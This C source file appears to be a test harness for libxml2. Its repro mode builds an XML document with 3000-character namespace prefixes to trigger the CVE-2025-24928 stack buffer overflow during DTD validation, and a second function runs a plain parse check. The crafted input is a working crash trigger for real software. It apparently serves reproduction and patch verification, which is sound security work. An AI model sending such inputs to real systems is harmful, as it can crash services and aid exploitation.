/* SPDX-License-Identifier: MIT */
/* Harness for libxml2 (libxml2.so.2 from the Debian source tree); modes:
 *   snprintf-elems  CVE-2025-24928: DTD validation of an element whose
 *                   child has a long namespace prefix and a long name; the
 *                   error message is built in a 5000-byte stack buffer by
 *                   xmlSnprintfElements, which checks the name against a
 *                   stale length (unpatched: the hardened strcat aborts,
 *                   "buffer overflow detected"). */
#include <libxml/parser.h>
#include <libxml/tree.h>

#include "harness.h"

static void quiet(void *ctx, const char *msg, ...)
{
	(void)ctx;
	(void)msg;
}

static void repro(const char *mode)
{
	if (strcmp(mode, "snprintf-elems")) {
		printf("unknown mode %s\n", mode);
		return;
	}
	xmlSetGenericErrorFunc(NULL, quiet);
	size_t np = 3000, nn = 3000;
	char *pfx = malloc(np + 1), *nm = malloc(nn + 1);
	memset(pfx, 'p', np);
	pfx[np] = '\0';
	memset(nm, 'n', nn);
	nm[nn] = '\0';
	size_t cap = 2 * np + nn + 256;
	char *doc = malloc(cap);
	snprintf(doc, cap,
		 "<!DOCTYPE r [<!ELEMENT r (a)><!ELEMENT a EMPTY>]>"
		 "<r xmlns:%s=\"urn:x\"><%s:%s/></r>", pfx, pfx, nm);
	xmlDocPtr d = xmlReadMemory(doc, (int)strlen(doc), "r.xml", NULL,
				    XML_PARSE_DTDVALID | XML_PARSE_NOERROR | XML_PARSE_NOWARNING);
	printf("%s\n", d ? "parsed, validation error reported" : "not parsed");
}

static bool load_once(void)
{
	static const char doc[] = "<?xml version=\"1.0\"?><list><item n=\"1\">one</item>"
				  "<item n=\"2\">two</item></list>";
	xmlDocPtr d = xmlReadMemory(doc, sizeof(doc) - 1, "l.xml", NULL, XML_PARSE_NOERROR);
	if (!d)
		return false;
	xmlNodePtr root = xmlDocGetRootElement(d);
	bool ok = root && !strcmp((const char *)root->name, "list") && root->children &&
		  root->children->next && !root->children->next->next;
	xmlChar *s = NULL;
	int len = 0;
	xmlDocDumpMemory(d, &s, &len);
	ok = ok && s && strstr((const char *)s, "<item n=\"2\">two</item>");
	xmlFree(s);
	xmlFreeDoc(d);
	return ok;
}
